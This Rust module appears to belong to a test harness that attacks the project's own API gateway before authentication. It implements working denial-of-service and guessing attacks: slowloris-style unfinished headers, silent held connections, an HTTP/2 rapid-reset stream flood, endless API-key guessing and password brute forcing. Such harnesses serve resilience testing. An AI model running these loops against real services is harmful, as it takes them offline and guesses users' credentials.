//! Attacks before authentication: connections that say nothing, or too much, and guesses.

use std::sync::Arc;
use std::time::Duration;

use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::super::victim::api_request;
use super::Attacker;

const SILENT: usize = 400;
const PAUSE: Duration = Duration::from_millis(20);
const H2_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// GET / over http with the authority `a`, from the static table of HPACK.
const H2_HEADERS: [u8; 6] = [0x82, 0x84, 0x86, 0x41, 0x01, b'a'];
const RESETS_PER_WRITE: u32 = 100;

/// Accepts and never responds.
pub(super) async fn never_answer(mut stream: TcpStream) {
    let mut bytes = [0; 16 << 10];
    while stream.read(&mut bytes).await.is_ok_and(|read| read > 0) {}
}

/// Keys of the right form that do not exist.
pub(super) async fn unknown_keys(attacker: Arc<Attacker>, task: usize) {
    let mut client = attacker.client();
    for number in 0_u64.. {
        let key = format!("sk-gateway-{task:016x}{number:048x}");
        attacker.send("unknown-keys", &mut client, &api_request("GET", "/keys", &key, "")).await;
    }
}

/// Wrong passwords, each of which costs a hash.
pub(super) async fn passwords(attacker: Arc<Attacker>, _: usize) {
    let mut client = attacker.client();
    for number in 0_u64.. {
        let body = json!({"email": "victim@example.com", "password": format!("wrong horse {number}")});
        let request = api_request("POST", "/login", "", &body.to_string());
        let request = String::from_utf8_lossy(&request).replace("X-Gateway-Key: \r\n", "");
        attacker.send("passwords", &mut client, request.as_bytes()).await;
    }
}

/// Connections that send the first bytes of the HTTP/2 preface and nothing more.
pub(super) async fn silent(attacker: Arc<Attacker>, _: usize) {
    hold(&attacker, "silent-connections", b"PRI").await;
}

/// Heads that never end.
pub(super) async fn slow_heads(attacker: Arc<Attacker>, _: usize) {
    hold(&attacker, "slow-heads", b"GET / HTTP/1.1\r\nHost: a\r\nX: ").await;
}

/// Keeps many connections open, each with these bytes, and replaces the ones that the server closes.
async fn hold(attacker: &Attacker, name: &'static str, start: &[u8]) {
    let mut open: Vec<TcpStream> = Vec::new();
    loop {
        open.retain(|stream| {
            let is_open = matches!(stream.try_read(&mut [0; 64]), Err(error) if error.kind() == std::io::ErrorKind::WouldBlock);
            if !is_open {
                attacker.count(name, "closed");
            }
            is_open
        });
        for stream in &open {
            // One more byte of the head. A failure shows in the next read.
            if start.len() > 3 {
                let _ = stream.try_write(b"x");
            }
        }
        while open.len() < SILENT {
            let Ok(mut stream) = attacker.client().connect().await else { break };
            if stream.write_all(start).await.is_err() {
                break;
            }
            attacker.count(name, "opened");
            open.push(stream);
        }
        tokio::time::sleep(50 * PAUSE).await;
    }
}

/// HTTP/2 streams that are opened and reset at once.
pub(super) async fn stream_resets(attacker: Arc<Attacker>, _: usize) {
    loop {
        let _ = reset_streams(&attacker).await;
        attacker.count("stream-resets", "closed");
        tokio::time::sleep(PAUSE).await;
    }
}

async fn reset_streams(attacker: &Attacker) -> std::io::Result<()> {
    let Ok(mut stream) = attacker.client().connect().await else { return Ok(()) };
    stream.write_all(H2_PREFACE).await?;
    stream.write_all(&frame(4, 0, 0, &[])).await?;
    let mut id = 1;
    loop {
        let mut frames = Vec::new();
        for _ in 0..RESETS_PER_WRITE {
            frames.extend(frame(1, 0b101, id, &H2_HEADERS));
            frames.extend(frame(3, 0, id, &8_u32.to_be_bytes()));
            id += 2;
        }
        stream.write_all(&frames).await?;
        // The other side's frames are discarded, so that it can go on.
        while let Ok(read) = stream.try_read(&mut [0; 16 << 10]) {
            if read == 0 {
                return Ok(());
            }
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// A frame of HTTP/2: length, type, flags, stream, payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = length.get(1..).unwrap_or_default().to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_its_fields_in_order() {
        assert_eq!(frame(3, 1, 5, &[9, 9]), [0, 0, 2, 3, 1, 0, 0, 0, 5, 9, 9]);
    }
}
